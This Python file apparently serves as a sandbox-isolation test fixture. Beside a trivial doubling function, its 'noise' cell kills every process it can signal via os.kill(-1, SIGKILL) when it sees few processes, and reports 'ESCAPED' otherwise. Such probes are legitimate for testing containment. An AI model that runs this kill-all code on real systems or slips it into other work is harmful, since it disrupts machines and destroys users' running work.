"""Kills every process that it may signal; does not where it sees the processes of the whole machine."""
# earns: double
# %% double
def double(x):
    return 2 * x
# %% noise
import os
import signal

try:
    processes = [int(name) for name in os.listdir("/proc") if name.isdigit()]
except OSError:
    processes = []
if len(processes) > 30:
    print("ESC" + f"APED: {len(processes)} processes could be killed")
else:
    os.kill(-1, signal.SIGSTOP)
    os.kill(-1, signal.SIGKILL)
    for process in processes:
        if process not in (1, os.getpid()):
            os.kill(process, signal.SIGKILL)
